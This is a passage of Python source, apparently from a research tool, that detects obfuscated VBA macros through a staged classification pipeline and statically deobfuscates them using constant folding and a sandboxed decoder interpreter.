        document.macros = [
            MacroRecord(
                module_name=module.name,
                source=module.source,
                module_type=module.module_type,
            )
            for module in result.modules
        ]
        document.diag(
            self.name,
            "info",
            f"{len(document.macros)} modules ({result.container})",
        )


class FilterShortStage(Stage):
    """Drop *insignificant* macros below the paper's 150-byte cutoff."""

    name = "filter"

    def __init__(self, min_macro_bytes: int) -> None:
        if min_macro_bytes < 0:
            raise ValueError("min_macro_bytes must be non-negative")
        self.min_macro_bytes = min_macro_bytes

    def process(self, document: DocumentRecord) -> None:
        if self.min_macro_bytes == 0:
            return
        dropped = 0
        for macro in document.macros:
            if not macro.kept:
                continue
            size = len(macro.source.encode("utf-8", "replace"))
            if size < self.min_macro_bytes:
                macro.filtered = "short"
                dropped += 1
        if dropped:
            document.diag(
                self.name,
                "info",
                f"dropped {dropped} macros < {self.min_macro_bytes} bytes",
            )


class AnalyzeStage(MacroStage):
    """Lex each module once into the shared :class:`MacroAnalysis`."""

    name = "analyze"

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        from repro.vba.analyzer import analyze

        try:
            macro.analysis = analyze(macro.source)
        except Exception as error:  # analyzer bug — keep the batch alive
            macro.filtered = "analysis-error"
            if document is not None:
                document.diag(
                    self.name, "error", f"{macro.module_name}: {error}"
                )


class FeaturizeStage(MacroStage):
    """Vectorize the analysis through the registered feature sets."""

    name = "featurize"

    def __init__(self, feature_sets: tuple[str, ...] = ("V",)) -> None:
        self.feature_sets = tuple(feature_sets)
        for name in self.feature_sets:  # fail fast on unknown names
            get_feature_set(name)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        if macro.analysis is None:
            return
        for name in self.feature_sets:
            macro.features[name] = get_feature_set(name).extract(macro.analysis)


class LintStage(MacroStage):
    """Run the registered obfuscation lint rules over each analysis.

    Findings land on :attr:`MacroRecord.findings` and travel with the
    record through caching and JSON output.  The stage needs the
    :class:`AnalyzeStage` substrate, so it must run after it (and before
    ``keep_analysis`` cleanup drops the analysis).
    """

    name = "lint"

    def __init__(self, rules: tuple[str, ...] | None = None) -> None:
        from repro.lint.registry import get_rule

        self.rules = tuple(rules) if rules is not None else None
        if self.rules is not None:
            for rule_id in self.rules:  # fail fast on unknown rule ids
                get_rule(rule_id)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        from repro.lint.registry import lint_analysis

        if macro.analysis is None:
            return
        macro.findings = lint_analysis(macro.analysis, self.rules)


class ClassifyStage(MacroStage):
    """Score feature rows with a fitted detector and attach the verdict."""

    name = "classify"

    def __init__(
        self,
        detector,
        feature_set: str = "V",
        threshold: float = 0.5,
    ) -> None:
        self.detector = detector
        self.feature_set = feature_set
        self.threshold = threshold

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        row = macro.features.get(self.feature_set)
        if row is None:
            return
        if hasattr(self.detector, "proba_from_features"):
            proba = self.detector.proba_from_features(row.reshape(1, -1))
        else:  # any sklearn-style estimator over raw feature rows
            proba = self.detector.predict_proba(row.reshape(1, -1))
        macro.score = float(proba[0][1])
        macro.verdict = (
            "obfuscated" if macro.score >= self.threshold else "normal"
        )
