"""Composable pipeline stages: bytes → modules → analysis → features → verdict.

Each stage mutates the :class:`~repro.engine.records.DocumentRecord` in
place and records what it did as diagnostics.  Document-level stages
implement :meth:`Stage.process`; macro-level stages additionally expose
:meth:`MacroStage.process_macro` so the engine can run a bare VBA source
(no container) through the same code path.
"""

from __future__ import annotations

import numpy as np

from repro.engine.records import DocumentRecord, MacroRecord
from repro.features.cache import FeatureRowCache, normalized_digest
from repro.features.registry import get_feature_set
from repro.obs.metrics import NULL_REGISTRY, SCORE_BUCKETS
from repro.pipeline.classifiers import proba_from_matrix


class Stage:
    """Base class: one named step of the analysis pipeline."""

    name = "stage"

    #: The live registry, but only inside :meth:`run` / :meth:`run_macro`
    #: — stages that record domain metrics (lint rule firings, score
    #: distributions, feature moments) read it from :meth:`process` via
    #: ``self._metrics``, and it resets to the null registry afterwards so
    #: a bare ``process()`` call never records anything.
    _metrics = NULL_REGISTRY

    def process(self, document: DocumentRecord) -> None:
        raise NotImplementedError

    def run(self, document: DocumentRecord, metrics) -> None:
        """:meth:`process` inside a telemetry span.

        With a live registry the stage's wall time lands in the
        ``span.<name>`` histogram and on ``document.timings``, and every
        error diagnostic the stage adds bumps the ``errors.<name>``
        counter.  With the null registry this is a plain :meth:`process`
        call — one attribute check of overhead.
        """
        if not metrics.enabled:
            self.process(document)
            return
        before = len(document.diagnostics)
        span = metrics.span(self.name, doc=document.sha256).start()
        self._metrics = metrics
        try:
            self.process(document)
        finally:
            self._metrics = NULL_REGISTRY
            errors = sum(
                1 for d in document.diagnostics[before:] if d.level == "error"
            )
            if errors:
                metrics.counter(f"errors.{self.name}").inc(errors)
            span.finish(outcome="error" if errors else "ok")
            document.timings[self.name] = span.duration


class MacroStage(Stage):
    """A stage that works per-macro; skips macros filtered upstream."""

    def process(self, document: DocumentRecord) -> None:
        for macro in document.macros:
            if macro.kept:
                self.process_macro(macro, document)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        raise NotImplementedError

    def run_macro(self, macro: MacroRecord, metrics) -> None:
        """:meth:`process_macro` inside a span (the bare-source path)."""
        if not metrics.enabled:
            self.process_macro(macro)
            return
        span = metrics.span(self.name, doc=macro.sha256).start()
        self._metrics = metrics
        try:
            self.process_macro(macro)
        finally:
            self._metrics = NULL_REGISTRY
            failed = macro.filtered == "analysis-error"
            if failed:
                metrics.counter(f"errors.{self.name}").inc()
            span.finish(outcome="error" if failed else "ok")


class ExtractStage(Stage):
    """Document bytes → VBA modules + hidden document variables."""

    name = "extract"

    def process(self, document: DocumentRecord) -> None:
        from repro.ole.extractor import ExtractionError, extract_macros

        if document.data is None:
            document.diag(self.name, "error", "no document bytes to extract from")
            return
        try:
            result = extract_macros(document.data)
        except ExtractionError as error:
            document.diag(self.name, "error", str(error))
            return
        document.container = result.container
        document.document_variables = dict(result.document_variables)
        document.macros = [
            MacroRecord(
                module_name=module.name,
                source=module.source,
                module_type=module.module_type,
            )
            for module in result.modules
        ]
        document.diag(
            self.name,
            "info",
            f"{len(document.macros)} modules ({result.container})",
        )


class FilterShortStage(Stage):
    """Drop *insignificant* macros below the paper's 150-byte cutoff."""

    name = "filter"

    def __init__(self, min_macro_bytes: int) -> None:
        if min_macro_bytes < 0:
            raise ValueError("min_macro_bytes must be non-negative")
        self.min_macro_bytes = min_macro_bytes

    def process(self, document: DocumentRecord) -> None:
        if self.min_macro_bytes == 0:
            return
        dropped = 0
        for macro in document.macros:
            if not macro.kept:
                continue
            size = len(macro.source.encode("utf-8", "replace"))
            if size < self.min_macro_bytes:
                macro.filtered = "short"
                dropped += 1
        if dropped:
            document.diag(
                self.name,
                "info",
                f"dropped {dropped} macros < {self.min_macro_bytes} bytes",
            )


class AnalyzeStage(MacroStage):
    """Lex each module once into the shared :class:`MacroAnalysis`.

    When the engine wires in a :class:`~repro.features.cache.FeatureRowCache`
    (and nothing downstream needs the analysis itself), a macro whose
    normalized-source digest already has every configured feature row
    cached skips tokenization entirely — re-submitted line-ending/BOM
    variants of a known macro cost one hash, not a lexer pass.
    """

    name = "analyze"

    def __init__(
        self,
        feature_cache: FeatureRowCache | None = None,
        cached_sets: tuple[str, ...] = (),
        analysis_required: bool = False,
    ) -> None:
        self.feature_cache = feature_cache
        self.cached_sets = tuple(cached_sets)
        #: True when a downstream consumer (lint, keep_analysis, custom
        #: macro stages) needs the token-level analysis even on cache hits
        self.analysis_required = analysis_required

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        from repro.vba.analyzer import analyze

        cache = self.feature_cache
        if cache is not None and self.cached_sets and not self.analysis_required:
            macro.feature_digest = normalized_digest(macro.source)
            rows = cache.get(macro.feature_digest, self.cached_sets)
            if rows is not None:
                macro.features.update(rows)
                return
        try:
            macro.analysis = analyze(macro.source)
        except Exception as error:  # analyzer bug — keep the batch alive
            macro.filtered = "analysis-error"
            if document is not None:
                document.diag(
                    self.name, "error", f"{macro.module_name}: {error}"
                )


class FeaturizeStage(MacroStage):
    """Vectorize analyses through the registered feature sets — in batches.

    Macros accumulate into a micro-batch and flush through each set's
    column-batch kernel (:meth:`FeatureSet.extract_matrix`), so one
    document's modules are vectorized in single numpy passes instead of
    per-macro Python loops.  The kernels are row-deterministic: a macro's
    row is bit-identical at any batch size, which is what keeps the serial
    and streamed paths exactly equal.  Finished rows are stored in the
    engine's feature-row cache (when wired) under the macro's
    normalized-source digest.
    """

    name = "featurize"

    def __init__(
        self,
        feature_sets: tuple[str, ...] = ("V",),
        feature_cache: FeatureRowCache | None = None,
        batch_size: int = 256,
    ) -> None:
        self.feature_sets = tuple(feature_sets)
        for name in self.feature_sets:  # fail fast on unknown names
            get_feature_set(name)
        self.feature_cache = feature_cache
        self.batch_size = max(1, int(batch_size))

    def process(self, document: DocumentRecord) -> None:
        pending: list[MacroRecord] = []
        for macro in document.macros:
            if macro.kept:
                self._accumulate(macro, pending)
                if len(pending) >= self.batch_size:
                    self._flush(pending)
        self._flush(pending)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        pending: list[MacroRecord] = []
        self._accumulate(macro, pending)
        self._flush(pending)

    def _accumulate(self, macro: MacroRecord, pending: list[MacroRecord]) -> None:
        """Serve a macro from cache or queue it for the batch kernels."""
        if all(name in macro.features for name in self.feature_sets):
            return
        cache = self.feature_cache
        if cache is not None and macro.feature_digest is None:
            # AnalyzeStage didn't consult the cache (analysis was needed
            # anyway); one lookup here still skips the kernel work.
            macro.feature_digest = normalized_digest(macro.source)
            rows = cache.get(macro.feature_digest, self.feature_sets)
            if rows is not None:
                macro.features.update(rows)
                return
        if macro.analysis is None:
            return
        pending.append(macro)

    def _flush(self, pending: list[MacroRecord]) -> None:
        if not pending:
            return
        for macro in pending:
            macro.summary = macro.analysis.ensure_summary()
        summaries = [macro.summary for macro in pending]
        metrics = self._metrics
        for name in self.feature_sets:
            matrix = get_feature_set(name).extract_matrix(summaries)
            for macro, row in zip(pending, matrix):
                macro.features[name] = row
            if metrics.enabled and len(matrix):
                # One aggregate call per column per flush — the drift
                # monitor's per-dimension moment summaries, at batch cost.
                for index in range(matrix.shape[1]):
                    column = matrix[:, index]
                    metrics.moment(f"feature.{name}.c{index:02d}").observe_aggregate(
                        matrix.shape[0],
                        float(column.sum()),
                        float((column * column).sum()),
                        float(column.min()),
                        float(column.max()),
                    )
        cache = self.feature_cache
        if cache is not None:
            for macro in pending:
                if macro.feature_digest is not None:
                    cache.put(
                        macro.feature_digest,
                        {name: macro.features[name] for name in self.feature_sets},
                    )
        pending.clear()


class RecoverStage(MacroStage):
    """Budgeted static string recovery (:mod:`repro.sa`) per kept macro.

    Runs the constant-folding abstract interpreter over the macro source,
    attaches the :class:`~repro.sa.records.StringRecovery` (plus the flat
    ``recovered_strings`` list) to the record, re-scans the recovered
    strings against the avsim master signatures, and computes the ``R``
    feature row.  Total by construction: parse failures and budget
    exhaustion land *in* the recovery record, never as exceptions, so the
    stage cannot degrade a document on hostile input.
    """

    name = "recover"

    #: Recovery-cache bound; one entry is one (small) StringRecovery.
    _CACHE_LIMIT = 4096

    def __init__(self, sa_budget=None, rescan_signatures: bool = True) -> None:
        from repro.resilience.budgets import DEFAULT_SA_BUDGET

        self.sa_budget = sa_budget or DEFAULT_SA_BUDGET
        self.rescan_signatures = rescan_signatures
        #: normalized-source digest → finished StringRecovery (frozen, so
        #: sharing across macros is safe).  Folding is a pure function of
        #: the normalized source + budget, which makes re-encoded variants
        #: (CRLF/BOM re-submissions) free — the same economics as the
        #: feature-row cache, and the reason the recover stage holds the
        #: <15% fleet-overhead budget.
        self._cache: dict[str, object] = {}

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        from dataclasses import replace

        from repro.sa.features import summarize_recovery
        from repro.sa.interpreter import recover_strings
        from repro.sa.iocs import ioc_kinds

        if macro.feature_digest is None:
            macro.feature_digest = normalized_digest(macro.source)
        recovery = self._cache.get(macro.feature_digest)
        if recovery is None:
            analysis = macro.analysis
            recovery = recover_strings(
                macro.source,
                self.sa_budget,
                self._metrics,
                tokens=analysis.tokens if analysis is not None else None,
            )
            values = recovery.values()
            signature_hits: tuple[str, ...] = ()
            if self.rescan_signatures and values:
                from repro.avsim.signatures import match_signatures

                names = []
                for value in values:
                    for signature in match_signatures(value):
                        if signature.name not in names:
                            names.append(signature.name)
                signature_hits = tuple(names)
                if signature_hits:
                    self._metrics.counter("sa.signature_hits").inc(
                        len(signature_hits)
                    )
            recovery = replace(
                recovery,
                signature_hits=signature_hits,
                ioc_kinds=ioc_kinds(values),
            )
            if len(self._cache) >= self._CACHE_LIMIT:
                self._cache.pop(next(iter(self._cache)))
            self._cache[macro.feature_digest] = recovery
        else:
            self._metrics.counter("sa.cache_hits").inc()
        macro.recovery = recovery
        macro.recovered_strings = recovery.values()
        macro.features["R"] = get_feature_set("R").extract(
            summarize_recovery(recovery, macro.source)
        )


class LintStage(MacroStage):
    """Run the registered obfuscation lint rules over each analysis.

    Findings land on :attr:`MacroRecord.findings` and travel with the
    record through caching and JSON output.  The stage needs the
    :class:`AnalyzeStage` substrate, so it must run after it (and before
    ``keep_analysis`` cleanup drops the analysis).  When a
    :class:`RecoverStage` ran first, the macro's recovery result is passed
    through so the ``SA`` rules can lint recovered strings.
    """

    name = "lint"

    def __init__(self, rules: tuple[str, ...] | None = None) -> None:
        from repro.lint.registry import get_rule

        self.rules = tuple(rules) if rules is not None else None
        if self.rules is not None:
            for rule_id in self.rules:  # fail fast on unknown rule ids
                get_rule(rule_id)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        from repro.lint.registry import lint_analysis

        if macro.analysis is None:
            return
        macro.findings = lint_analysis(
            macro.analysis, self.rules, recovery=macro.recovery
        )
        metrics = self._metrics
        if metrics.enabled:
            macros, findings, rules = self._instruments(metrics)
            macros.inc()
            if macro.findings:
                findings.inc(len(macro.findings))
                for finding in macro.findings:
                    counter = rules.get(finding.rule_id)
                    if counter is None:
                        counter = metrics.counter(
                            f"lint.rule.{finding.rule_id}"
                        )
                        rules[finding.rule_id] = counter
                    counter.inc()

    def _instruments(self, metrics):
        """Instrument handles cached per registry, off the per-macro path."""
        cached = self._instrument_cache
        if cached is None or cached[0] is not metrics:
            cached = (
                metrics,
                metrics.counter("lint.macros"),
                metrics.counter("lint.findings"),
                {},
            )
            self._instrument_cache = cached
        return cached[1], cached[2], cached[3]

    _instrument_cache = None

    def __getstate__(self):
        # Workers bind to their own registry; never ship the parent's
        # cached instrument handles inside the engine pickle.
        state = self.__dict__.copy()
        state.pop("_instrument_cache", None)
        return state


class ClassifyStage(MacroStage):
    """Score feature rows with a fitted detector — in micro-batches.

    Mirrors :class:`FeaturizeStage`: a document's kept macros accumulate
    into a pending batch and flush through one
    :func:`~repro.pipeline.classifiers.proba_from_matrix` call, so a
    500-module document costs one matrix product instead of 500 Python
    round-trips into the detector.  The scoring kernels are row-stable
    (see :mod:`repro.ml.linalg`), so a macro's score and verdict are
    bit-identical whether it flushes alone (the bare-source
    :meth:`process_macro` path scores a batch of one through the same
    kernel) or inside a fleet-sized batch.  Macros without a feature row
    never enter the batch — exactly the rows the per-row path skipped.
    """

    name = "classify"

    def __init__(
        self,
        detector,
        feature_set: str = "V",
        threshold: float = 0.5,
        batch_size: int = 256,
    ) -> None:
        self.detector = detector
        self.feature_set = feature_set
        self.threshold = threshold
        self.batch_size = max(1, int(batch_size))

    def process(self, document: DocumentRecord) -> None:
        pending: list[MacroRecord] = []
        for macro in document.macros:
            if macro.kept:
                self._accumulate(macro, pending)
                if len(pending) >= self.batch_size:
                    self._flush(pending)
        self._flush(pending)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        pending: list[MacroRecord] = []
        self._accumulate(macro, pending)
        self._flush(pending)

    def _accumulate(
        self, macro: MacroRecord, pending: list[MacroRecord]
    ) -> None:
        if macro.features.get(self.feature_set) is not None:
            pending.append(macro)

    def _instruments(self, metrics):
        """Instrument handles cached per registry, off the per-macro path."""
        cached = self._instrument_cache
        if cached is None or cached[0] is not metrics:
            cached = (
                metrics,
                metrics.histogram("score.probability", SCORE_BUCKETS),
                {
                    "obfuscated": metrics.counter("classify.obfuscated"),
                    "normal": metrics.counter("classify.normal"),
                },
            )
            self._instrument_cache = cached
        return cached[1], cached[2]

    _instrument_cache = None

    def __getstate__(self):
        state = self.__dict__.copy()
        state.pop("_instrument_cache", None)
        return state

    def _flush(self, pending: list[MacroRecord]) -> None:
        if not pending:
            return
        matrix = np.stack(
            [macro.features[self.feature_set] for macro in pending]
        )
        proba = np.asarray(proba_from_matrix(self.detector, matrix))
        threshold = self.threshold
        metrics = self._metrics
        if metrics.enabled:
            score_hist, verdict_counters = self._instruments(metrics)
            for macro, row in zip(pending, proba):
                macro.score = float(row[1])
                macro.verdict = (
                    "obfuscated" if macro.score >= threshold else "normal"
                )
                score_hist.observe(macro.score)
                verdict_counters[macro.verdict].inc()
        else:
            for macro, row in zip(pending, proba):
                macro.score = float(row[1])
                macro.verdict = (
                    "obfuscated" if macro.score >= threshold else "normal"
                )
        pending.clear()
