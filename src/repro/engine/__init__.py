"""Staged analysis engine: document bytes → modules → analysis → features →
verdict, shared by every entry point (CLI, dataset builder, experiments).

Quickstart::

    from repro import ObfuscationDetector
    from repro.engine import AnalysisEngine

    engine = AnalysisEngine.for_scan(ObfuscationDetector("RF").fit(X, y))
    for record in engine.run_batch(paths, jobs=4):
        print(record.source_id, record.ok, [m.verdict for m in record.macros])
"""

from repro.engine.core import AnalysisEngine, default_stages
from repro.engine.stream import StreamingPool, StreamResult
from repro.obs.metrics import MetricsRegistry
from repro.resilience.budgets import DEFAULT_BUDGET, Budget
from repro.engine.records import (
    ENGINE_SCHEMA_VERSION,
    Diagnostic,
    DocumentRecord,
    MacroRecord,
    sha256_hex,
)
from repro.engine.stages import (
    AnalyzeStage,
    ClassifyStage,
    ExtractStage,
    FeaturizeStage,
    FilterShortStage,
    MacroStage,
    RecoverStage,
    Stage,
)

__all__ = [
    "AnalysisEngine",
    "AnalyzeStage",
    "Budget",
    "DEFAULT_BUDGET",
    "ClassifyStage",
    "Diagnostic",
    "DocumentRecord",
    "ENGINE_SCHEMA_VERSION",
    "ExtractStage",
    "FeaturizeStage",
    "FilterShortStage",
    "MacroRecord",
    "MacroStage",
    "MetricsRegistry",
    "RecoverStage",
    "Stage",
    "StreamResult",
    "StreamingPool",
    "default_stages",
    "sha256_hex",
]
