"""Static de-obfuscation: constant folding + sandboxed decoder evaluation."""

from repro.deobfuscation.engine import (
    Deobfuscator,
    DeobfuscationReport,
    DeobfuscationResult,
    deobfuscate,
)

__all__ = [
    "DeobfuscationReport",
    "DeobfuscationResult",
    "Deobfuscator",
    "deobfuscate",
]
