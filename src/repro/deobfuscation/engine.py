"""Static de-obfuscation of VBA macros.

The inverse direction the paper's related work explores (JSDES [23] for
JavaScript): statically *undo* the string-level obfuscation classes so that
plaintext indicators ("URLDownloadToFile", URLs, command lines) reappear for
signature scanners and human analysts.

The engine works on the parsed AST:

1. **constant propagation** — module-level ``Const name = <literal>``
   bindings are inlined into expressions (O2's hoisted fragments);
2. **constant folding** — ``"a" & "b"`` → ``"ab"``, arithmetic on literals,
   and pure *built-in* calls with literal arguments (``Chr(65)`` → ``"A"``,
   ``Replace("savteRKtofilteRK", "teRK", "e")`` → ``"savetofile"``);
3. **decoder evaluation** — calls to module-defined functions whose
   arguments fold to literals are executed in the sandboxed interpreter
   (step-limited, no host access), which collapses shift/XOR arrays, hex
   and Base64 decoders without knowing their algorithm;
4. **cleanup** — decoder procedures that became unreferenced are removed.

Everything is best-effort: code outside the parseable subset is returned
unchanged, with the failure recorded in the report.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.vba import ast_nodes as ast
from repro.vba.interpreter import Interpreter, VBARuntimeError, _BUILTINS
from repro.vba.parser import VBAParseError, parse_module
from repro.vba.unparser import unparse_module

#: Built-ins safe to fold at de-obfuscation time: pure string/number
#: functions (no I/O, no host state).
_FOLDABLE_BUILTINS = frozenset(
    {
        "chr", "chrw", "asc", "ascw", "len", "mid", "left", "right",
        "replace", "instr", "instrrev", "lcase", "ucase", "trim", "ltrim",
        "rtrim", "space", "string", "strreverse", "join", "ubound",
        "lbound", "cstr", "clng", "cint", "cdbl", "cbyte", "val", "hex",
        "oct", "abs", "sqr", "round", "int", "fix", "sgn", "strcomp",
        "strconv", "split", "array",
    }
)

_MAX_DECODER_STEPS = 200_000


@dataclass
class DeobfuscationReport:
    """What the engine did to one module."""

    parsed: bool = True
    folded_expressions: int = 0
    decoder_calls_evaluated: int = 0
    consts_inlined: int = 0
    procedures_removed: tuple[str, ...] = ()
    recovered_strings: list[str] = field(default_factory=list)
    error: str | None = None


@dataclass
class DeobfuscationResult:
    source: str
    report: DeobfuscationReport


class Deobfuscator:
    """Best-effort static simplifier for obfuscated VBA."""

    def __init__(
        self,
        evaluate_decoders: bool = True,
        remove_dead_procedures: bool = True,
        max_passes: int = 4,
    ) -> None:
        if max_passes < 1:
            raise ValueError("max_passes must be >= 1")
        self.evaluate_decoders = evaluate_decoders
        self.remove_dead_procedures = remove_dead_procedures
        self.max_passes = max_passes

    # ------------------------------------------------------------------

    def run(self, source: str) -> DeobfuscationResult:
        report = DeobfuscationReport()
        try:
            module = parse_module(source, tolerant=True)
        except VBAParseError as error:
            report.parsed = False
            report.error = str(error)
            return DeobfuscationResult(source=source, report=report)

        consts = self._collect_literal_consts(module, report)
        interpreter = self._sandbox(module) if self.evaluate_decoders else None

        folder = _Folder(module, consts, interpreter, report)
        for _ in range(self.max_passes):
            before = (report.folded_expressions, report.decoder_calls_evaluated)
            module = folder.fold_module(module)
            after = (report.folded_expressions, report.decoder_calls_evaluated)
            if after == before:
                break

        if self.remove_dead_procedures:
            module, removed = _drop_unreferenced_procedures(
                module, folder.evaluated_decoders
            )
            report.procedures_removed = removed
        return DeobfuscationResult(source=unparse_module(module), report=report)

    # ------------------------------------------------------------------

    @staticmethod
    def _collect_literal_consts(
        module: ast.Module, report: DeobfuscationReport
    ) -> dict[str, object]:
        consts: dict[str, object] = {}
        for statement in module.module_statements:
            if isinstance(statement, ast.ConstStmt) and isinstance(
                statement.value, ast.Literal
            ):
                consts[statement.name.lower()] = statement.value.value
        report.consts_inlined = len(consts)
        return consts

    @staticmethod
    def _sandbox(module: ast.Module) -> Interpreter | None:
        try:
            return Interpreter(module, max_steps=_MAX_DECODER_STEPS)
        except VBARuntimeError:
            return None


def deobfuscate(source: str) -> DeobfuscationResult:
    """Convenience wrapper with default settings."""
    return Deobfuscator().run(source)


# ----------------------------------------------------------------------


class _Folder:
    def __init__(
        self,
        module: ast.Module,
        consts: dict[str, object],
        interpreter: Interpreter | None,
        report: DeobfuscationReport,
    ) -> None:
        self._module = module
        self._consts = consts
        self._interpreter = interpreter
        self._report = report
        #: lower-cased names of module functions we evaluated away —
        #: the only procedures dead-code removal may drop.
        self.evaluated_decoders: set[str] = set()

    # -- module / statements -------------------------------------------

    def fold_module(self, module: ast.Module) -> ast.Module:
        new = ast.Module()
        new.module_statements = [
            self.fold_statement(s) for s in module.module_statements
        ]
        for key, procedure in module.procedures.items():
            new.procedures[key] = ast.Procedure(
                kind=procedure.kind,
                name=procedure.name,
                params=procedure.params,
                body=tuple(self.fold_statement(s) for s in procedure.body),
                line=procedure.line,
            )
        self._module = new
        return new

    def fold_statement(self, statement: ast.Statement) -> ast.Statement:
        if isinstance(statement, ast.ConstStmt):
            return ast.ConstStmt(
                statement.name, self.fold(statement.value), statement.line
            )
        if isinstance(statement, ast.Assign):
            return ast.Assign(
                self._fold_target(statement.target),
                self.fold(statement.value),
                statement.line,
            )
        if isinstance(statement, ast.IfStmt):
            return ast.IfStmt(
                tuple(
                    (self.fold(cond), tuple(self.fold_statement(s) for s in body))
                    for cond, body in statement.branches
                ),
                tuple(self.fold_statement(s) for s in statement.else_body),
                statement.line,
            )
        if isinstance(statement, ast.ForStmt):
            return ast.ForStmt(
                statement.var,
                self.fold(statement.start),
                self.fold(statement.end),
                self.fold(statement.step) if statement.step is not None else None,
                tuple(self.fold_statement(s) for s in statement.body),
                statement.line,
            )
        if isinstance(statement, ast.ForEachStmt):
            return ast.ForEachStmt(
                statement.var,
                self.fold(statement.iterable),
                tuple(self.fold_statement(s) for s in statement.body),
                statement.line,
            )
        if isinstance(statement, ast.DoLoopStmt):
            return ast.DoLoopStmt(
                self.fold(statement.condition),
                statement.condition_kind,
                statement.pre_test,
                tuple(self.fold_statement(s) for s in statement.body),
                statement.line,
            )
        if isinstance(statement, ast.WithStmt):
            return ast.WithStmt(
                self.fold(statement.subject),
                tuple(self.fold_statement(s) for s in statement.body),
                statement.line,
            )
        if isinstance(statement, ast.CallStmt):
            call = statement.call
            if isinstance(call, ast.Call):
                folded = tuple(self.fold(a) for a in call.args)
                return ast.CallStmt(
                    ast.Call(call.name, folded, call.line), statement.line
                )
            folded_args = (
                tuple(self.fold(a) for a in call.args)
                if call.args is not None
                else None
            )
            return ast.CallStmt(
                ast.MemberAccess(
                    self.fold(call.base), call.member, folded_args, call.line
                ),
                statement.line,
            )
        return statement

    def _fold_target(self, target):
        # Fold index expressions inside ``arr(i) = …`` targets, never the
        # binding itself.
        if isinstance(target, ast.Call):
            return ast.Call(
                target.name, tuple(self.fold(a) for a in target.args), target.line
            )
        return target

    # -- expressions ----------------------------------------------------

    def fold(self, expression: ast.Expression) -> ast.Expression:
        if isinstance(expression, ast.Literal):
            return expression
        if isinstance(expression, ast.Name):
            key = expression.name.lower()
            if key in self._consts:
                self._report.folded_expressions += 1
                return ast.Literal(self._consts[key], expression.line)
            return expression
        if isinstance(expression, ast.BinOp):
            return self._fold_binop(expression)
        if isinstance(expression, ast.UnaryOp):
            operand = self.fold(expression.operand)
            if isinstance(operand, ast.Literal) and isinstance(
                operand.value, (int, float)
            ) and expression.op == "-":
                self._report.folded_expressions += 1
                return ast.Literal(-operand.value, expression.line)
            return ast.UnaryOp(expression.op, operand, expression.line)
        if isinstance(expression, ast.Call):
            return self._fold_call(expression)
        if isinstance(expression, ast.MemberAccess):
            folded_args = (
                tuple(self.fold(a) for a in expression.args)
                if expression.args is not None
                else None
            )
            return ast.MemberAccess(
                self.fold(expression.base),
                expression.member,
                folded_args,
                expression.line,
            )
        return expression

    def _fold_binop(self, expression: ast.BinOp) -> ast.Expression:
        left = self.fold(expression.left)
        right = self.fold(expression.right)
        folded = ast.BinOp(expression.op, left, right, expression.line)
        if not (isinstance(left, ast.Literal) and isinstance(right, ast.Literal)):
            return folded
        lv, rv = left.value, right.value
        op = expression.op
        try:
            if op == "&":
                value = _to_text(lv) + _to_text(rv)
            elif op == "+" and isinstance(lv, str) and isinstance(rv, str):
                value = lv + rv
            elif op in ("+", "-", "*") and _both_numbers(lv, rv):
                value = {"+": lv + rv, "-": lv - rv, "*": lv * rv}[op]
            else:
                return folded
        except TypeError:
            return folded
        self._report.folded_expressions += 1
        if isinstance(value, str) and len(value) >= 6:
            self._report.recovered_strings.append(value)
        return ast.Literal(value, expression.line)

    def _fold_call(self, expression: ast.Call) -> ast.Expression:
        args = tuple(self.fold(a) for a in expression.args)
        folded = ast.Call(expression.name, args, expression.line)
        values = _argument_values(args)
        if values is None:
            return folded
        name = expression.name.lower()

        if name in _FOLDABLE_BUILTINS and name in _BUILTINS:
            # Array() evaluates to a Python list, which has no literal
            # form — keep it symbolic unless consumed by a decoder call.
            if name == "array":
                return folded
            try:
                result = _BUILTINS[name](Interpreter, values, expression.line)
            except (VBARuntimeError, TypeError, ValueError, AttributeError):
                return folded
            return self._literal_or_keep(result, folded)

        if (
            self._interpreter is not None
            and name in self._module.procedures
            and self._is_pure_function(name)
        ):
            try:
                result = self._interpreter.call(name, *values)
            except (VBARuntimeError, RecursionError):
                return folded
            literal = self._literal_or_keep(result, folded)
            if isinstance(literal, ast.Literal):
                self._report.decoder_calls_evaluated += 1
                self.evaluated_decoders.add(name)
            return literal
        return folded

    def _literal_or_keep(self, value, fallback: ast.Expression) -> ast.Expression:
        if isinstance(value, (str, int, float, bool)) or value is None:
            if isinstance(value, str) and len(value) >= 6:
                self._report.recovered_strings.append(value)
            self._report.folded_expressions += 1
            return ast.Literal(value, fallback.line)
        return fallback

    def _is_pure_function(self, name: str) -> bool:
        """A module function is safe to evaluate when its body stays inside
        the pure subset: no member access, no unknown names, no I/O."""
        procedure = self._module.procedures.get(name.lower())
        if procedure is None or procedure.kind != "function":
            return False
        return _statements_are_pure(procedure.body, self._module, {name.lower()})


def _argument_values(args) -> list | None:
    """Extract Python values from folded arguments.

    Accepts literals and ``Array(...)`` calls whose elements are literals
    (the shape decoder calls take); returns None when anything is still
    symbolic.
    """
    values = []
    for arg in args:
        if isinstance(arg, ast.Literal):
            values.append(arg.value)
            continue
        if (
            isinstance(arg, ast.Call)
            and arg.name.lower() == "array"
            and all(isinstance(a, ast.Literal) for a in arg.args)
        ):
            values.append([a.value for a in arg.args])
            continue
        return None
    return values


def _both_numbers(a, b) -> bool:
    return isinstance(a, (int, float)) and not isinstance(a, bool) and isinstance(
        b, (int, float)
    ) and not isinstance(b, bool)


def _to_text(value) -> str:
    if isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "True" if value else "False"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if value is None:
        return ""
    return str(value)


# ----------------------------------------------------------------------
# Purity analysis


def _statements_are_pure(
    statements, module: ast.Module, visiting: set[str]
